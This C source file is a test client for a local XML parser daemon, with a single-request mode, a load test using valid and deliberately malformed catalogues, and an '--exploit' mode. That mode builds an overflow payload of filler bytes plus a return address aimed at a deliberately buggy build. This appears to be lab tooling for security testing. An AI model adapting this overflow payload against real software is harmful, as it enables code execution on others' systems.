/* parsed-send - send requests to parsed and print (or count) the replies.
 *
 *   parsed-send SOCKET [FILE]          one request (FILE, or stdin); prints the reply
 *   parsed-send --load N KIND SOCKET   N requests of KIND (valid, malformed);
 *                                      prints "N ok, N errors, N died, N failed,
 *                                      RATE req/s" and the first failure
 *   parsed-send --exploit ADDR SOCKET  the overflow of parsed-bug, aimed at ADDR
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* One request; the reply into buf (NUL-terminated).  -1: no connection,
 * or the reply could not be read; *why says which call failed. */
static int request(const char *path, const char *req, size_t n, char *buf, size_t max,
		   const char **why)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0) {
		*why = "socket";
		return -1;
	}
	if (connect(fd, (struct sockaddr *)&a, sizeof a)) {
		int e = errno;
		close(fd);
		errno = e;
		*why = "connect";
		return -1;
	}
	for (size_t off = 0; off < n;) {
		ssize_t w = write(fd, req + off, n - off);
		if (w <= 0)
			break;
		off += (size_t)w;
	}
	shutdown(fd, SHUT_WR);
	size_t got = 0;
	ssize_t r;
	while (got + 1 < max && (r = read(fd, buf + got, max - 1 - got)) > 0)
		got += (size_t)r;
	buf[got] = 0;
	int e = errno;
	close(fd);
	if (r < 0) {
		*why = "read";
		errno = e;
		return -1;
	}
	return 0;
}

/* Request i of kind: a small catalogue, or the same cut or garbled. */
static size_t make(char *out, size_t max, int malformed, unsigned i)
{
	int n = snprintf(out, max, "<?xml version=\"1.0\"?>\n<catalog id=\"c%u\">", i);
	for (unsigned k = 0; k < 3 + i % 20; k++)
		n += snprintf(out + n, max - (size_t)n,
			      "<book n=\"%u\" lang=\"en\"><title>Book %u of %u</title><price>%u.99</price></book>",
			      k, k, i, k + i % 7);
	n += snprintf(out + n, max - (size_t)n, "</catalog>\n");
	if (malformed) {
		switch (i % 4) {
		case 0: n /= 2; break;                      /* cut short */
		case 1: out[n / 3] = '<'; break;            /* a stray tag opener */
		case 2: memcpy(out + 25, "<a></b>", 7); break; /* mismatched */
		default: out[40] = '\x01'; break;           /* not a character */
		}
	}
	return (size_t)n;
}

static int load(unsigned count, int malformed, const char *path)
{
	static char req[65536], reply[8192];
	unsigned ok = 0, err = 0, died = 0, fail = 0;
	char first[160] = ""; /* the first failure, said after the counts */
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (unsigned i = 0; i < count; i++) {
		size_t n = make(req, sizeof req, malformed, i);
		const char *why;
		if (request(path, req, n, reply, sizeof reply, &why)) {
			if (!fail++)
				snprintf(first, sizeof first, " (first failure: request %u: %s: %s)", i, why,
					 strerror(errno));
			continue;
		}
		if (!strncmp(reply, "ok ", 3))
			ok++;
		else if (strstr(reply, "died"))
			died++;
		else if (!strncmp(reply, "error: ", 7))
			err++;
		else if (!fail++)
			snprintf(first, sizeof first, " (first failure: request %u: reply \"%.60s\")", i,
				 reply);
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double s = (double)(t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9;
	printf("%u ok, %u errors, %u died, %u failed, %.0f req/s%s\n", ok, err, died, fail, count / s,
	       first);
	return 0;
}

static int exploit(const char *addr, const char *path)
{
	uint64_t a = strtoull(addr, NULL, 0);
	char req[512], reply[8192];
	int n = snprintf(req, sizeof req, "<doc><note id=\"");
	for (int i = 0; i < 32; i++)
		n += snprintf(req + n, sizeof req - (size_t)n, "41");
	for (int i = 0; i < 8; i++)
		n += snprintf(req + n, sizeof req - (size_t)n, "%02x", (unsigned)(a >> (8 * i)) & 0xff);
	n += snprintf(req + n, sizeof req - (size_t)n, "\"/></doc>");
	const char *why;
	if (request(path, req, (size_t)n, reply, sizeof reply, &why)) {
		fprintf(stderr, "parsed-send: %s %s: %s\n", why, path, strerror(errno));
		return 1;
	}
	fputs(reply, stdout);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && !strcmp(argv[1], "--load"))
		return load((unsigned)atoi(argv[2]), !strcmp(argv[3], "malformed"), argv[4]);
	if (argc == 4 && !strcmp(argv[1], "--exploit"))
		return exploit(argv[2], argv[3]);
	if (argc != 2 && argc != 3) {
		fprintf(stderr, "usage: parsed-send SOCKET [FILE] | --load N valid|malformed SOCKET | "
				"--exploit ADDR SOCKET\n");
		return 2;
	}
	FILE *f = argc == 3 ? fopen(argv[2], "r") : stdin;
	if (!f) {
		perror(argv[2]);
		return 1;
	}
	static char req[1 << 20], reply[8192];
	size_t n = fread(req, 1, sizeof req, f);
	const char *why;
	if (request(argv[1], req, n, reply, sizeof reply, &why)) {
		fprintf(stderr, "parsed-send: %s %s: %s\n", why, argv[1], strerror(errno));
		return 1;
	}
	fputs(reply, stdout);
	return 0;
}
